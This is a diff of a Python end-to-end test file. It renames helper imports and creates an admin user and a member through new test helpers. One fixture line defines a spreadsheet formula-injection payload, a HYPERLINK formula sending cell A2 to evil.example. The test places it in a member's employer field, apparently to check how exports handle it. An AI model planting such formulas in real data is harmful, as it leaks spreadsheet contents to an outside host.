@@ -15,12 +15,11 @@ from sqlmodel import select
 from core.db import get_engine, read_session, write_session
 from core.migrate import upgrade_to_head
 from models import AuditAction, AuditEntry, Role
-from services import accounts
-from services.accounts import UserInput
-from services.actors import SYSTEM
 from services.audit import parse_audit_detail
-from tests import factories
-from tests.e2e.conftest import PASSWORD, screenshot, sign_in, wait_for_app
+from services.users import UserInput
+from tests.helpers import factories
+from tests.helpers.browser import PASSWORD, screenshot, sign_in, wait_for_app
+from tests.helpers.users import user_with_own_password
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'
 
@@ -31,10 +30,8 @@ def _store(tmp_path: Path) -> str:
     engine = get_engine(url)
     upgrade_to_head(engine)
     with write_session(engine) as session:
-        accounts._insert_user(
-            session, SYSTEM,
-            UserInput(username="chief", display_name="王主任", role=Role.ADMIN),
-            PASSWORD, None,
+        user_with_own_password(
+            session, UserInput(username="chief", display_name="王主任", role=Role.ADMIN), PASSWORD,
         )
         member = factories.member(session, factories.organisation(session), name="刘洋")
         member.employer = HYPERLINK
